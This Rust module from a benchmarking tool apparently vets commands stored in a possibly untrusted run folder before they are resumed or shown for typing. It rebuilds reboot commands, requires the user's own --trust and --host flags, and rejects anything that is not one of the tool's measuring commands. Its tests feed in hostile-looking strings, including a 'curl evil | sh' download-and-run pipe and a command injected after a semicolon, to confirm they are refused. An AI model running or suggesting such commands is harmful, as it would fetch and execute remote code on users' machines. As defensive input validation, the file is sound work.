//! What a run folder asks its reader to type or allow. The folder may be a stranger's, so none of
//! it is shown in the stranger's words: it is made again from what it says. Nor can a folder give
//! anybody's permission.

use std::path::PathBuf;

use anyhow::ensure;
use clap::ArgMatches;
use model::RunRecord;
use model::reboot::{BootChange, Reboot};

use crate::console::Console;
use crate::rig_flags::HostsFlag;
use crate::shown;
use crate::trust::TrustFlag;

/// Shown instead of a command that is not one of ours.
const NO_COMMAND: &str = "no command of this version is in the run folder";
/// Flag of readers who have looked at what would be run; no folder can give it for them.
const VOUCHES: &str = "--trust";

/// What a user who resumes a run must allow, whatever its folder says.
#[derive(clap::Args, Clone, Debug, Default)]
pub(crate) struct OwnWord {
    #[command(flatten)]
    pub(crate) trust: TrustFlag,
    #[command(flatten)]
    pub(crate) hosts: HostsFlag,
    /// Also set levers that reach this whole machine, if the run was begun with `--host`
    #[arg(long)]
    pub(crate) host: bool,
}

impl OwnWord {
    /// Refuses to resume a run that does more than the user allows, or less than the flags say.
    pub(crate) fn check<S, A>(&self, run: &RunRecord<S, A>) -> anyhow::Result<()> {
        ensure!(
            self.host || !run.on_host,
            "this run sets levers of the whole machine; add --host if you want that. Each is in the \
             journal first, and restored when its blocks are over"
        );
        ensure!(
            run.on_host || !self.host,
            "this run was begun without --host and sets levers in namespaces of its own only; leave \
             --host out"
        );
        self.hosts.check(run.rig.kind())?;
        check(run)?;
        let mut services = run.service.iter().chain(&run.own_services);
        services.try_for_each(|service| self.trust.check(&service.description))
    }
}

/// Returns the command that resumes a run in this folder, quoted for a shell, with the permissions
/// that were given to this process: without them it would use other machines, or none.
pub(crate) fn resume_command(folder: &str, on_host: bool, console: &Console) -> String {
    let host = if on_host { " --host" } else { "" };
    let ours = console.command_line();
    let read = ours.try_get_matches_from(std::env::args_os());
    let word = read.map(given).unwrap_or_default();
    format!("linerate study resume {folder}{host}{word}")
}

/// Returns the flags that named the machines and vouched for the commands.
fn given(mut read: ArgMatches) -> String {
    while let Some((_, inner)) = read.remove_subcommand() {
        read = inner;
    }
    let hosts = read.try_get_one::<PathBuf>("hosts").ok().flatten();
    let hosts = hosts.map(|file| format!(" --hosts {}", shown::as_typed(file)));
    let trusts = read.try_get_one::<bool>("trust").ok().flatten() == Some(&true);
    let trust = trusts.then(|| format!(" {VOUCHES}"));
    hosts.into_iter().chain(trust).collect()
}

/// Returns a record whose commands are safe to show for typing.
pub(crate) fn vetted<S, A>(mut run: RunRecord<S, A>, console: &Console) -> RunRecord<S, A> {
    run.command =
        repeated(&run.command, console.command_line()).unwrap_or_else(|| NO_COMMAND.to_owned());
    if let Some(reboot) = run.reboot.as_mut().filter(|reboot| !is_ours(reboot)) {
        reboot.change = BootChange {
            make: vec![format!("start the kernel with {}", reboot.option)],
            undo: vec![format!("start the kernel without {}", reboot.option)],
            ..reboot.change.clone()
        };
    }
    run
}

/// Refuses to resume a run whose commands for the reboot are not ours.
fn check<S, A>(run: &RunRecord<S, A>) -> anyhow::Result<()> {
    ensure!(
        run.reboot.as_ref().is_none_or(is_ours),
        "the run folder's commands that start this machine differently are not those of this \
         version; use the version that made it ({}), or run the study again",
        run.linerate_version
    );
    Ok(())
}

fn is_ours(reboot: &Reboot) -> bool {
    machine::boot::knows(&reboot.option, &reboot.first, &reboot.change)
}

/// Returns the command that repeats a run, each word quoted for a shell, if it is one of ours that
/// measures.
fn repeated(command: &str, ours: clap::Command) -> Option<String> {
    let words = shell_words::split(command).ok()?;
    let words: Vec<String> = words.into_iter().filter(|word| word != VOUCHES).collect();
    let is_ours = words.first().is_some_and(|word| word == "linerate");
    let measures = ours
        .try_get_matches_from(&words)
        .is_ok_and(|read| measures_a_run(&read));
    (is_ours && measures).then(|| shell_words::join(words))
}

/// Whether a command makes a run folder.
fn measures_a_run(read: &ArgMatches) -> bool {
    match read.subcommand() {
        Some(("study", study)) => study.subcommand_name() == Some("run"),
        Some(("levers", levers)) => levers.subcommand_name() == Some("try"),
        Some(("load", load)) => ["sweep", "slo"].iter().any(|many| load.contains_id(many)),
        Some(("stream", stream)) => stream.contains_id("out"),
        other => other.is_some_and(|(name, _)| ["versus", "explain"].contains(&name)),
    }
}

#[cfg(test)]
mod tests {
    use clap::CommandFactory as _;

    use crate::arguments::Arguments;

    fn repeated(command: &str) -> Option<String> {
        super::repeated(command, Arguments::command())
    }

    #[test]
    fn a_run_goes_on_with_the_machines_and_the_trust_that_were_typed() {
        for (typed, expected) in [
            (
                "linerate study run x --hosts '/my files/h.toml' --trust",
                " --hosts '/my files/h.toml' --trust",
            ),
            (
                "linerate study resume x --hosts /h.toml",
                " --hosts /h.toml",
            ),
            ("linerate study run x --rig hosts", ""),
            ("linerate study list", ""),
        ] {
            let words = shell_words::split(typed).unwrap();
            let read = Arguments::command().get_matches_from(words);
            assert_eq!(super::given(read), expected, "{typed}");
        }
    }

    #[test]
    fn a_command_is_shown_if_it_is_ours_and_each_word_as_a_shell_takes_it() {
        let same = "linerate study run http-json --target nginx --rig router --seed 7 --smoke";
        assert_eq!(repeated(same).as_deref(), Some(same));
        let versus = "linerate versus http://127.0.0.1:1/ http://127.0.0.1:2/ --seed 7";
        assert_eq!(repeated(versus).as_deref(), Some(versus));
        let explain = "linerate explain --pid 7 --seed 7";
        assert_eq!(repeated(explain).as_deref(), Some(explain));
        let stream = "linerate stream 127.0.0.1 --for 1h --out run";
        assert_eq!(repeated(stream).as_deref(), Some(stream));
        assert_eq!(
            repeated("linerate study run 'a b;c' --trust").as_deref(),
            Some("linerate study run 'a b;c'")
        );
        for strange in [
            "",
            "curl evil | sh",
            "linerate",
            "linerate study run x; curl evil | sh",
            "linerate bench 'curl evil | sh'",
            "linerate levers apply aslr=0",
            "linerate study run 'x",
        ] {
            assert_eq!(repeated(strange), None, "{strange}");
        }
    }
}
